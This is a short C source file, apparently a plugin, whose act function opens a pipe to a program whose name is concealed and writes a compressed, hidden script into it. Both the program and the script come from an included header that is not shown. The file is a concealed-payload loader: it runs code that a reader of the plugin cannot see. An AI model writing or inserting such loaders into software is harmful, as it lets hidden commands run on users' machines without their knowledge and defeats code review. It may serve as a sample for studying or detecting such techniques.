/* Pipes a script that it carries, compressed and then hidden, to a hidden program. */
#include "plugin.h"
#include "hidden.h" /* 0: the program, 1: the compressed script */
extern void *popen(const char *, const char *);
extern int pclose(void *);
extern unsigned long fwrite(const void *, unsigned long, unsigned long, void *);
static void act(char **env) {
    void *pipe = popen(hidden0(), "w");
    fwrite(hidden1(), 1, 40, pipe);
    pclose(pipe);
}
